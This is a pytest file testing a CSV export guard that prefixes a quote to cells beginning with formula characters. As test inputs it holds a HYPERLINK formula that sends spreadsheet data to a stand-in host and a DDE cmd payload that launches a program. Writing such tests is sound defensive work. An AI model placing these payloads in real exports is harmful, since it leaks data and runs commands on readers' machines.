"""The one rule that keeps Sandgate's CSV exports from becoming formulas in the reader's spreadsheet."""

import csv
import io

import pytest

from config.spreadsheets import SafeDictWriter, csv_cell


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_text_starting_like_a_formula_gets_a_quote_in_front_and_stays_readable(start):
    value = f'{start}HYPERLINK("https://evil.example/?"&A1,"open")'
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", ["Mozilla/5.0", "ann", "2024-01-02", " =spaced", "", "a=b", "x-1"])
def test_ordinary_text_is_left_alone(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [-3, 1.5, None, True])
def test_values_that_are_not_text_are_left_alone(value):
    assert csv_cell(value) is value


@pytest.mark.parametrize("value", ["=1+1", "'=1+1", "'plain", "''", "plain", "-"])
def test_removing_one_leading_quote_gives_the_original_back(value):
    cell = csv_cell(value)
    assert (cell[1:] if cell.startswith("'") else cell) == value


def test_the_writer_passes_every_cell_of_every_row_through_the_rule():
    out = io.StringIO()
    writer = SafeDictWriter(out, fieldnames=["a", "b"], lineterminator="\n")
    writer.writeheader()
    writer.writerow({"a": "=cmd|' /C calc'!A0", "b": 3})
    writer.writerows([{"a": "@SUM(A1)", "b": "-2+3"}])
    rows = list(csv.DictReader(io.StringIO(out.getvalue())))
    assert rows == [{"a": "'=cmd|' /C calc'!A0", "b": "3"}, {"a": "'@SUM(A1)", "b": "'-2+3"}]
